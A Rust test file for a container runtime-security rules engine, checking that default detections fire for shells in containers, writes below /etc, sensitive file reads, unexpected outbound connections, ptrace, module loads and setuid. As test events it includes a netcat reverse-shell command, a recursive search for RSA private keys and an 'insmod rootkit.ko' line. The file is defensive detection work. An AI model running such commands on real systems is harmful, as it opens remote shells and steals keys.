//! The default rulesets on realistic events: each seed detection fires in a container with its
//! fields filled in, and stays quiet for the same action on the host or when allow-listed.

use std::net::IpAddr;

use warden_rules::event::{Ancestor, Container, Event, EventArg, Fd, FdType, Process};
use warden_rules::{defaults, Engine, Loader, Matching};

#[path = "support/gen.rs"]
mod gen;

fn engine() -> Engine {
    let r = defaults::load();
    assert!(r.ok(), "{:#?}", r.errors);
    Engine::new(r.rules, "test-host").with_matching(Matching::All)
}

fn container() -> Container {
    Container {
        id: "3f2a1b4c5d6e".into(),
        full_id: ("3f2a1b4c5d6e".repeat(5) + "abcd").into(),
        name: "web".into(),
        image: "docker.io/library/nginx:1.27".into(),
        image_repository: "docker.io/library/nginx".into(),
        image_tag: "1.27".into(),
        image_digest: "sha256:0123".into(),
        runtime: "docker".into(),
        metadata_complete: true,
        ..Container::default()
    }
}

fn arg(name: &str, value: &str, raw: Option<i64>) -> EventArg {
    EventArg {
        name: name.into(),
        value: value.into(),
        raw,
    }
}

fn proc_(name: &str, args: &[&str], parent: &str) -> Process {
    Process {
        pid: 4242,
        tid: 4242,
        ppid: 4200,
        vpid: 17,
        name: name.into(),
        exe: format!("/bin/{name}").into(),
        exepath: format!("/bin/{name}").into(),
        args: args.iter().map(|&s| s.into()).collect(),
        cwd: "/".into(),
        tty: 34816,
        uid: 0,
        user: Some("root".into()),
        loginuid: -1,
        ancestors: vec![
            Ancestor {
                pid: 4200,
                name: parent.into(),
                exe: parent.into(),
                exepath: format!("/usr/bin/{parent}").into(),
                ..Ancestor::default()
            },
            Ancestor {
                pid: 1,
                name: "systemd".into(),
                ..Ancestor::default()
            },
        ],
        ..Process::default()
    }
}

fn exec(name: &str, args: &[&str], c: Option<Container>) -> Event {
    Event {
        num: 10,
        ts: 1_764_300_000_123_456_789,
        source: "syscall".into(),
        evt_type: "execve".into(),
        res: 0,
        args: vec![
            arg("res", "0", Some(0)),
            arg("exe", &format!("/bin/{name}"), None),
        ],
        proc: proc_(name, args, "runc"),
        container: c,
        ..Event::default()
    }
}

fn rules_fired(e: &Engine, ev: &Event) -> Vec<String> {
    e.evaluate(ev).into_iter().map(|a| a.rule).collect()
}

#[test]
fn shell_in_container_fires_with_container_fields() {
    let e = engine();
    let alerts = e.evaluate(&exec("bash", &[], Some(container())));
    let a = alerts
        .iter()
        .find(|a| a.rule == "Shell in container")
        .expect("shell alert");
    assert_eq!(a.priority, "Notice");
    assert_eq!(a.output_fields["container.id"], "3f2a1b4c5d6e");
    assert_eq!(a.output_fields["container.name"], "web");
    assert_eq!(
        a.output_fields["container.image.repository"],
        "docker.io/library/nginx"
    );
    assert_eq!(a.hostname, "test-host");
    assert_eq!(a.time, "2025-11-28T03:20:00.123456789Z");
    assert!(
        a.output
            .starts_with("03:20:00.123456789: Notice Shell spawned in a container"),
        "{}",
        a.output
    );
    // Falco's own stable rule also fires: the shell has a tty and runc as parent.
    assert!(
        alerts
            .iter()
            .any(|a| a.rule == "Terminal shell in container"),
        "{alerts:#?}"
    );
}

#[test]
fn shell_on_host_raises_no_container_alert() {
    let e = engine();
    let fired = rules_fired(&e, &exec("bash", &[], None));
    assert!(!fired.iter().any(|r| r.contains("ontainer")), "{fired:?}");
}

#[test]
fn container_entrypoint_shell_is_not_flagged() {
    let e = engine();
    let mut ev = exec("sh", &["-c", "nginx -g 'daemon off;'"], Some(container()));
    ev.proc.vpid = 1;
    assert!(!rules_fired(&e, &ev).contains(&"Shell in container".to_string()));
}

fn open(path: &str, flags: &str, c: Option<Container>) -> Event {
    Event {
        num: 11,
        ts: 1_764_300_001_000_000_000,
        source: "syscall".into(),
        evt_type: "openat".into(),
        res: 3,
        args: vec![
            arg("fd", "3", Some(3)),
            arg("dirfd", "AT_FDCWD", None),
            arg("name", path, None),
            arg("flags", flags, None),
            arg("mode", "0644", None),
        ],
        proc: proc_("tee", &[path], "sh"),
        fd: Some(Fd {
            num: 3,
            fd_type: FdType::File,
            name: path.into(),
            ..Fd::default()
        }),
        container: c,
        ..Event::default()
    }
}

#[test]
fn write_below_etc_in_container_fires_but_not_on_host_or_tmp() {
    let e = engine();
    let rule = "Write below system directory in container".to_string();
    assert!(rules_fired(
        &e,
        &open("/etc/passwd", "O_WRONLY|O_CREAT|O_TRUNC", Some(container()))
    )
    .contains(&rule));
    assert!(
        rules_fired(&e, &open("/usr/local/bin/x", "O_RDWR", Some(container()))).contains(&rule)
    );
    assert!(!rules_fired(&e, &open("/etc/passwd", "O_WRONLY", None)).contains(&rule));
    assert!(
        !rules_fired(&e, &open("/tmp/x", "O_WRONLY|O_CREAT", Some(container()))).contains(&rule)
    );
    assert!(!rules_fired(&e, &open("/etc/passwd", "O_RDONLY", Some(container()))).contains(&rule));
    // pmatch is by path component: /etcfoo is not below /etc.
    assert!(!rules_fired(&e, &open("/etcfoo/x", "O_WRONLY", Some(container()))).contains(&rule));
}

#[test]
fn sensitive_read_fires_for_untrusted_reader_only() {
    let e = engine();
    let rule = "Read sensitive file".to_string();
    let mut ev = open("/etc/shadow", "O_RDONLY", None);
    ev.proc.name = "cat".into();
    assert!(rules_fired(&e, &ev).contains(&rule));
    ev.proc.name = "sshd".into();
    assert!(!rules_fired(&e, &ev).contains(&rule));
}

fn connect(ip: &str, port: u16, res: i64, c: Option<Container>) -> Event {
    let sip: IpAddr = ip.parse().expect("ip");
    Event {
        num: 12,
        ts: 1_764_300_002_000_000_000,
        source: "syscall".into(),
        evt_type: "connect".into(),
        res,
        args: vec![
            arg("res", &res.to_string(), Some(res)),
            arg("tuple", &format!("127.0.0.1:40000->{ip}:{port}"), None),
        ],
        proc: proc_("curl", &["http://x"], "sh"),
        fd: Some(Fd {
            num: 5,
            fd_type: FdType::Ipv4,
            cip: Some("127.0.0.1".parse().expect("ip")),
            cport: Some(40000),
            sip: Some(sip),
            sport: Some(port),
            l4proto: Some("tcp".into()),
            ..Fd::default()
        }),
        container: c,
        ..Event::default()
    }
}

#[test]
fn unexpected_outbound_fires_unless_allow_listed_per_image() {
    let rule = "Unexpected outbound connection from container".to_string();
    let e = engine();
    let refused = connect("127.0.0.1", 4444, -111, Some(container()));
    let fired = e.evaluate(&refused);
    let a = fired
        .iter()
        .find(|a| a.rule == rule)
        .expect("outbound alert");
    assert_eq!(a.output_fields["fd.sport"], 4444);
    assert_eq!(a.output_fields["evt.res"], "ECONNREFUSED");
    assert_eq!(
        a.output_fields["fd.name"],
        "127.0.0.1:40000->127.0.0.1:4444"
    );
    assert!(!rules_fired(&e, &connect("127.0.0.1", 4444, 0, None)).contains(&rule));

    let mut l = Loader::new();
    l.add_str("falco_rules.yaml", defaults::FALCO_RULES);
    l.add_str("warden_rules.yaml", defaults::WARDEN_RULES);
    l.add_str(
        "local.yaml",
        "- list: warden_allowed_outbound\n  items: [\"docker.io/library/nginx:443\", \"docker.io/library/nginx:10.0.0.5:5432\"]\n  override:\n    items: append\n",
    );
    let r = l.finish();
    assert!(r.ok(), "{:#?}", r.errors);
    let e = Engine::new(r.rules, "h").with_matching(Matching::All);
    assert!(!rules_fired(&e, &connect("93.184.216.34", 443, 0, Some(container()))).contains(&rule));
    assert!(!rules_fired(&e, &connect("10.0.0.5", 5432, 0, Some(container()))).contains(&rule));
    assert!(rules_fired(&e, &connect("10.0.0.6", 5432, 0, Some(container()))).contains(&rule));
    let mut other = container();
    other.image_repository = "docker.io/library/redis".into();
    assert!(rules_fired(&e, &connect("93.184.216.34", 443, 0, Some(other))).contains(&rule));
}

#[test]
fn package_manager_ptrace_module_and_setuid_rules_fire() {
    let e = engine();
    assert!(rules_fired(
        &e,
        &exec("apt-get", &["install", "-y", "nmap"], Some(container()))
    )
    .contains(&"Package manager in running container".to_string()));

    let mut pt = exec("gdb", &["-p", "1"], None);
    pt.evt_type = "ptrace".into();
    pt.args = vec![
        arg("res", "0", Some(0)),
        arg("request", "PTRACE_ATTACH", Some(16)),
        arg("pid", "1", Some(1)),
    ];
    assert!(rules_fired(&e, &pt).contains(&"Ptrace attach".to_string()));
    pt.args[1] = arg("request", "PTRACE_PEEKDATA", Some(2));
    assert!(!rules_fired(&e, &pt).contains(&"Ptrace attach".to_string()));

    let mut km = exec("insmod", &["rootkit.ko"], Some(container()));
    km.evt_type = "finit_module".into();
    km.args = vec![
        arg("res", "0", Some(0)),
        arg("fd", "3", Some(3)),
        arg("uargs", "", None),
        arg("flags", "0", Some(0)),
    ];
    assert!(rules_fired(&e, &km).contains(&"Kernel module load".to_string()));

    let mut su = exec("exploit", &[], None);
    su.evt_type = "setuid".into();
    su.proc.loginuid = 1000;
    su.proc.uid = 1000;
    su.args = vec![arg("res", "0", Some(0)), arg("uid", "0", Some(0))];
    assert!(rules_fired(&e, &su).contains(&"Setuid to root by non-root process".to_string()));
    // user.uid is the caller's before the call: root calling setuid(0) changes nothing.
    su.proc.uid = 0;
    assert!(!rules_fired(&e, &su).contains(&"Setuid to root by non-root process".to_string()));
    su.proc.uid = 1000;
    su.proc.name = "sudo".into();
    assert!(!rules_fired(&e, &su).contains(&"Setuid to root by non-root process".to_string()));
}

#[test]
fn engine_indexes_by_event_type() {
    let e = engine();
    let types = e
        .event_types()
        .expect("every default rule names its event types");
    for t in [
        "execve",
        "openat",
        "connect",
        "ptrace",
        "finit_module",
        "setuid",
    ] {
        assert!(types.contains(t), "{t} missing from {types:?}");
    }
    assert!(!types.contains("read"));
    // An event type no rule asks for is never evaluated, so nothing fires.
    let mut ev = exec("bash", &[], Some(container()));
    ev.evt_type = "read".into();
    assert!(e.evaluate(&ev).is_empty());
}

#[test]
fn per_type_specialisation_matches_plain_evaluation() {
    let e = engine();
    let mut events = vec![
        exec("bash", &[], Some(container())),
        exec("bash", &[], None),
        exec("nc", &["-e", "/bin/sh", "1.2.3.4", "80"], Some(container())),
        exec("grep", &["-r", "BEGIN RSA PRIVATE", "/"], None),
        exec("apt-get", &["install", "x"], Some(container())),
        open("/etc/shadow", "O_RDONLY", Some(container())),
        open("/etc/passwd", "O_WRONLY|O_TRUNC", Some(container())),
        open("/var/log/syslog", "O_WRONLY|O_TRUNC", None),
        open("/tmp/x", "O_RDWR|O_CREAT", None),
        connect("127.0.0.1", 4444, -111, Some(container())),
        connect("8.8.8.8", 2222, 0, None),
    ];
    let mut shm = exec("x", &[], Some(container()));
    shm.proc.exepath = "/dev/shm/x".into();
    shm.proc.exe = "/dev/shm/x".into();
    events.push(shm);
    let mut idx = Vec::new();
    let mut total = 0;
    for ev in &events {
        e.matches(ev, &mut idx);
        let plain = gen::plain_matches(&e, ev);
        assert_eq!(idx, plain, "event {} {:?}", ev.evt_type, ev.proc.name);
        total += idx.len();
    }
    assert!(total >= 10, "too few matches to compare: {total}");
}
